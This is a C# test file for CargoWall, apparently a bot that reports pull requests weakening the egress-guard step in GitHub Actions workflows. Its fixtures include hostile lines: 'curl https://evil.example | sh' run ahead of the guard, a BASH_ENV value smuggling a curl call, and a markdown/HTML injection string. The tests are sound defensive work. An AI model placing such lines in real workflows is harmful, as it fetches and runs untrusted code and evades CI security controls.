using CargoWall.Bot.Egress;
using CargoWall.Bot.Outbox;
using CargoWall.Bot.Tests.Testing;
using CargoWall.Policy.Contracts;
using CargoWall.Policy.Model;
using GitHub.Simulator.Actions;
using GitHub.Simulator.Checks;

namespace CargoWall.Bot.Tests.Runs;

/// <summary>A branch cannot change the policy that judges it, but it can leave the step out that asks for it: that is told.</summary>
public sealed class ProtectionRemovalTests
{
    private const string Pin = "0123456789abcdef0123456789abcdef01234567";

    private const string Step = $"      - uses: acme/cargowall-action@{Pin}\n        with: {{ api-url: https://bot.example }}\n";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("as it is", null)]
    [InlineData("gone", "has no CargoWall step")]
    [InlineData("another bot", "the input api-url of its CargoWall step (.github/workflows/ci.yml:8)")]
    [InlineData("offline", "the input offline")]
    [InlineData("another action", "uses evil/cargowall-action (.github/workflows/ci.yml:7)")]
    [InlineData("renamed", null)]
    [InlineData("behind a step", "a step (.github/workflows/ci.yml:7) runs before its CargoWall step (.github/workflows/ci.yml:8)")]
    [InlineData("behind two steps", "2 steps (the first at .github/workflows/ci.yml:7) run before its CargoWall step (.github/workflows/ci.yml:9)")]
    [InlineData("behind an alias", "a step (.github/workflows/ci.yml:7) runs before its CargoWall step (.github/workflows/ci.yml:8)")]
    [InlineData("a step behind it", null)]
    [InlineData("a condition", "runs only if “github.actor == 'x'” (.github/workflows/ci.yml:9), on the default branch always")]
    [InlineData("a condition of nothing", null)]
    [InlineData("going on", "by continue-on-error: “true” (.github/workflows/ci.yml:9)")]
    [InlineData("not going on", null)]
    [InlineData("variables", "the variables (env) of its CargoWall step (.github/workflows/ci.yml:9)")]
    [InlineData("an alias in it", "a YAML alias stands in its CargoWall step (.github/workflows/ci.yml:7)")]
    public void Given_a_changed_step_what_protects_less_is_told(string change, string? expected)
    {
        const string Other = "      - run: curl https://evil.example | sh\n";
        var own = change switch
        {
            "gone" => "",
            "another bot" => Step.Replace("bot.example", "evil.example", StringComparison.Ordinal),
            "offline" => Step.Replace("{ api-url", "{ offline: true, api-url", StringComparison.Ordinal),
            "another action" => Step.Replace("acme/", "evil/", StringComparison.Ordinal),
            "renamed" => Step + "        name: Guard\n        id: guard\n",
            "behind a step" => Other + Step,
            "behind two steps" => Other + Other + Step,
            "behind an alias" => "      - *other\n" + Step,
            "a step behind it" => Step + Other,
            "a condition" => Step + "        if: ${{ github.actor == 'x' }}\n",
            "a condition of nothing" => Step + "        if:\n",
            "going on" => Step + "        continue-on-error: true\n",
            "not going on" => Step + "        continue-on-error: false\n",
            "variables" => Step + "        env: { BASH_ENV: $(curl https://evil.example) }\n",
            "an alias in it" => Step + "        if: *never\n",
            _ => Step,
        };

        var changes = Changes(Workflow(Step), Workflow(own) + "# a comment\n");

        if (expected is null)
        {
            Assert.Empty(changes);
        }
        else
        {
            var told = Assert.Single(changes);
            Assert.True(told.IsRemoval);
            Assert.Contains(expected, told.Sentence, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("the same", null)]
    [InlineData("the same in another order", null)]
    [InlineData("one fewer", null)]
    [InlineData("one twice", "a step (.github/workflows/ci.yml:9)")]
    [InlineData("other inputs", "a step (.github/workflows/ci.yml:7)")]
    [InlineData("another version", "a step (.github/workflows/ci.yml:7)")]
    [InlineData("no condition", "a step (.github/workflows/ci.yml:8)")]
    public void Given_steps_before_it_on_the_default_branch_too_only_others_are_told(string change, string? expected)
    {
        const string Checkout = "      - uses: actions/checkout@v4\n";
        const string Setup = "      - { if: github.event_name == 'push', run: ./setup.sh }\n";
        var own = change switch
        {
            "the same in another order" => Setup + Checkout,
            "one fewer" => Checkout,
            "one twice" => Checkout + Setup + Setup,
            "other inputs" => "      - { uses: actions/checkout@v4, with: { repository: evil/web } }\n" + Setup,
            "another version" => Checkout.Replace("v4", "v5", StringComparison.Ordinal) + Setup,
            "no condition" => Checkout + "      - run: ./setup.sh\n",
            _ => "      - name: Check out\n        uses: 'actions/checkout@v4'\n" + Setup,
        };

        var changes = Changes(Workflow(Checkout + Setup + Step), Workflow(own + Step));

        if (expected is null)
        {
            Assert.Empty(changes);
        }
        else
        {
            Assert.Contains(expected, Assert.Single(changes).Sentence, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData(
        "if: github.ref == 'a'",
        "if: github.ref == 'b'",
        "only if “github.ref == 'b'” (.github/workflows/ci.yml:9), on the default branch only if “github.ref == 'a'”"
    )]
    [InlineData("if: github.ref == 'a'", "if: ${{ github.ref == 'a' }}", null)]
    [InlineData("if: github.ref == 'a'", "id: guard", null)]
    [InlineData("continue-on-error: true", "id: guard", null)]
    [InlineData("env: { LEVEL: high }", "env: { 'LEVEL': 'high' }", null)]
    [InlineData("env: { LEVEL: high }", "id: guard", "the variables (env) of its CargoWall step (.github/workflows/ci.yml:7)")]
    [InlineData("continue-on-error: ${{ matrix.soft }}", "continue-on-error: true", "by continue-on-error: “true”")]
    public void Given_a_condition_on_the_default_branch_too_what_is_weaker_is_told(string usual, string own, string? expected)
    {
        var changes = Changes(Workflow($"{Step}        {usual}\n"), Workflow($"{Step}        {own}\n"));

        if (expected is null)
        {
            Assert.Empty(changes);
        }
        else
        {
            Assert.Contains(expected, Assert.Single(changes).Sentence, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("4567456745674567456745674567456745674567", true)]
    [InlineData("v9", false)]
    public void Given_another_pin_it_is_told_with_both_and_removes_nothing(string reference, bool mayBeOfAFork)
    {
        var told = Assert.Single(Changes(Workflow(Step), Workflow(Step.Replace(Pin, reference, StringComparison.Ordinal))));

        Assert.False(told.IsRemoval);
        Assert.Contains($"pinned to “{reference}” (.github/workflows/ci.yml:7), on the default branch to “{Pin}”", told.Sentence, StringComparison.Ordinal);
        Assert.Equal(mayBeOfAFork, told.Sentence.Contains("any fork", StringComparison.Ordinal));
    }

    [Fact]
    public void Given_several_CargoWall_steps_each_is_compared_and_steps_between_a_guard_and_the_report_are_free()
    {
        var report = Step + "        if: always()\n";
        var usual = Workflow(Step + "      - run: make\n" + report);

        Assert.Empty(Changes(usual, Workflow(Step + "      - run: make\n      - run: make lint\n" + report)));
        Assert.Contains("2 CargoWall steps on the default branch and 1 here", Assert.Single(Changes(usual, Workflow(Step))).Sentence, StringComparison.Ordinal);
        Assert.Contains(
            "the input offline",
            Assert.Single(Changes(usual, Workflow(Step.Replace("{ api-url", "{ offline: true, api-url", StringComparison.Ordinal) + report))).Sentence,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public void Given_steps_that_guard_by_turns_each_has_to_stand_where_it_stood()
    {
        var pushed = Step + "        if: github.event_name == 'push'\n";
        var asked = Step + "        if: github.event_name != 'push'\n";

        var told = Assert.Single(Changes(Workflow(pushed + asked), Workflow(pushed + "      - run: make\n" + asked)));

        Assert.Contains("a step (.github/workflows/ci.yml:10) runs before its CargoWall step", told.Sentence, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", null)]
    [InlineData("      - uses: actions/checkout@v4\n", "a step (.github/workflows/ci.yml:7) runs before it (.github/workflows/ci.yml:8)")]
    public void Given_a_workflow_that_the_default_branch_does_not_have_what_its_step_does_not_guard_is_told_and_removes_nothing(string before, string? expected)
    {
        List<ProtectionChange> changes = [.. ProtectionRemoval.Compare("ci.yml", null, Workflow(before + Step)).Select(it => it.Change)];

        Assert.Equal(expected is null ? 0 : 1, changes.Count);
        Assert.All(changes, told => Assert.Contains(expected!, told.Sentence, StringComparison.Ordinal)); // Empty where nothing is expected.
        Assert.All(changes, told => Assert.False(told.IsRemoval));
    }

    [Fact]
    public void Given_the_legs_of_a_matrix_a_removal_is_told_once()
    {
        ObservedJob Leg(string name) =>
            new()
            {
                Label = $"ci.yml#build ({name})",
                Target = new EntityTarget { Workflow = "ci.yml", Job = "build" },
                Declared = AgentMode.Enforce,
                Report = new ObservedReport { IsSealed = true, Effective = AgentMode.Enforce },
                Protection = [new ProtectionChange("its CargoWall step is elsewhere", IsRemoval: true)],
            };

        var verdict = EgressVerdict.Of([new ObservedRun(7, "ci.yml", IsComplete: true, IsFork: false, [Leg("18"), Leg("20")])]);

        Assert.Equal(("ci.yml#build", EgressIssueKind.ProtectionRemoved), verdict?.Issues is [var issue] ? (issue.Job, issue.Kind) : default);
    }

    [Theory]
    [InlineData(AgentMode.Enforce, CheckConclusion.Failure)]
    [InlineData(AgentMode.Audit, CheckConclusion.Neutral)]
    public void Given_hostile_words_in_a_changed_step_the_check_tells_them_as_text_and_in_short(AgentMode declared, CheckConclusion conclusion)
    {
        const string Hostile = "'<img src=x> @octocat #1 [a](https://evil.example) | `x`' != ";
        var own =
            "      - run: make\n"
            + Step.Replace(Pin, "4567456745674567456745674567456745674567", StringComparison.Ordinal)
            + $"        if: \"{Hostile}'{new string('x', 4_000)}'\"\n        continue-on-error: true\n";
        ObservedRun[] runs =
        [
            new(
                7,
                "ci.yml",
                IsComplete: true,
                IsFork: false,
                [
                    new ObservedJob
                    {
                        Label = "ci.yml#build",
                        Declared = declared,
                        Report = new ObservedReport { IsSealed = true, Effective = declared },
                        Protection = Changes(Workflow(Step), Workflow(own)),
                    },
                ]
            ),
        ];
        var verdict = EgressVerdict.Of(runs) ?? throw new InvalidOperationException("No verdict.");

        var (title, summary) = new Bot.Egress.EgressText().Of(verdict, runs, _ => true);

        Assert.Equal(conclusion, verdict.Conclusion);
        if (conclusion == CheckConclusion.Failure)
        {
            Golden.Matches("egress-protection-removed.md", $"<!-- {title} -->\n{summary}");
        }
    }

    [Fact]
    public async Task Given_a_pull_request_that_drops_the_step_and_opens_its_policy_the_served_policy_stays_and_both_checks_tell()
    {
        await using var scene = await RunScene.StartAsync(workflow: Workflow(Step));
        await scene.Scene.CommitAsync(
            "change",
            (PolicyText.WorkflowPath, Workflow("")),
            (PolicyText.Path, PolicyText.Allowing("registry.npmjs.org", "evil.test").Replace("mode: enforce", "mode: audit", StringComparison.Ordinal))
        );
        var pull = await scene.Scene.OpenAsync("change");
        var run = await scene.StartRunAsync(
            new NewRun(scene.Scene.Repository, PolicyText.WorkflowPath)
            {
                Event = "pull_request",
                PullRequest = pull.Number,
                Jobs = [new NewJob("build")],
            }
        );
        var session = await scene.OpenAsync(run.Job("build"));
        await scene.ReportAsync(session, RunScene.Connection("registry.npmjs.org", "allowed"));
        await scene.SealAsync(session);
        await scene.Scene.GitHub.Runs.CompleteAsync(run.Id, cancellationToken: Cancel);

        var policy = await scene.Scene.CheckAsync(pull.HeadSha);
        var egress = await scene.EgressAsync(run, found => found.Summary?.Contains("1 job reported", StringComparison.Ordinal) == true);

        Assert.Contains("widens", policy.Title, StringComparison.Ordinal);
        Assert.Equal(("failure", "protection removed from ci.yml#build"), (egress.Conclusion, egress.Title));
        Assert.DoesNotContain("evil.test", session.Policy?.ToString() ?? "", StringComparison.Ordinal);
        Assert.Contains("enforce", session.Policy?.ToString() ?? "", StringComparison.Ordinal);
    }

    [Fact]
    public async Task Given_a_pull_request_that_moves_the_step_behind_its_own_a_whole_and_clean_report_does_not_make_the_check_green()
    {
        await using var scene = await RunScene.StartAsync(workflow: Workflow(Step));
        var egress = await EgressOfAsync(scene, "build", (PolicyText.WorkflowPath, Workflow("      - run: curl https://evil.example | sh\n" + Step)));

        Assert.Equal(("failure", "protection removed from ci.yml#build"), (egress.Conclusion, egress.Title));
        Assert.Contains(
            "protection removed: a step (.github/workflows/ci.yml:7) runs before its CargoWall step (.github/workflows/ci.yml:8)",
            egress.Summary,
            StringComparison.Ordinal
        );
    }

    [Theory]
    [InlineData("./.github/workflows/build.yml", "      - run: make\n", "failure", "a step (.github/workflows/build.yml:7) runs before its CargoWall step")]
    [InlineData("./.github/workflows/build.yml", "", "success", null)]
    [InlineData(
        "evil/ci/.github/workflows/build.yml@v1",
        "",
        "failure",
        "(.github/workflows/ci.yml:5), on the default branch “./.github/workflows/build.yml”, which has a CargoWall step"
    )]
    public async Task Given_a_job_that_calls_a_workflow_the_step_of_that_one_is_compared(string call, string before, string conclusion, string? expected)
    {
        const string Called = ".github/workflows/build.yml";
        await using var scene = await RunScene.StartAsync(workflow: Caller($"./{Called}"));
        await scene.Scene.CommitAsync("main", (Called, Workflow(Step)));
        await scene.HandledAsync();

        var egress = await EgressOfAsync(
            scene,
            "call / build",
            (PolicyText.WorkflowPath, Caller(call) + "# a comment\n"),
            (Called, Workflow(before + Step) + "# a comment\n")
        );

        Assert.Equal(conclusion, egress.Conclusion);
        Assert.Contains(expected ?? "nothing denied", egress.Summary, StringComparison.Ordinal);
    }

    /// <summary>The check of a pull request with these files, whose job of that name reports whole and clean.</summary>
    private static async Task<SimulatedCheck> EgressOfAsync(RunScene scene, string name, params (string Path, string? Text)[] files)
    {
        await scene.Scene.CommitAsync("change", files);
        var pull = await scene.Scene.OpenAsync("change");
        var run = await scene.StartRunAsync(
            new NewRun(scene.Scene.Repository, PolicyText.WorkflowPath)
            {
                Event = "pull_request",
                PullRequest = pull.Number,
                Jobs = [new NewJob("build") { Name = name }],
            }
        );
        var session = await scene.OpenAsync(run.Job("build"));
        await scene.ReportAsync(session, RunScene.Connection("registry.npmjs.org", "allowed"));
        await scene.SealAsync(session);
        await scene.Scene.GitHub.Runs.CompleteAsync(run.Id, cancellationToken: Cancel);
        return await scene.EgressAsync(run, found => found.Summary?.Contains("1 job reported", StringComparison.Ordinal) == true);
    }

    private static List<ProtectionChange> Changes(string usual, string own) => [.. ProtectionRemoval.Compare("ci.yml", usual, own).Select(it => it.Change)];

    private static string Caller(string call) => $"name: CI\non: pull_request\njobs:\n  call:\n    uses: {call}\n";

    private static string Workflow(string step) =>
        $"""
            name: CI
            on: pull_request
            jobs:
              build:
                runs-on: ubuntu-24.04
                steps:
            {step}      - run: "true"

            """;
}
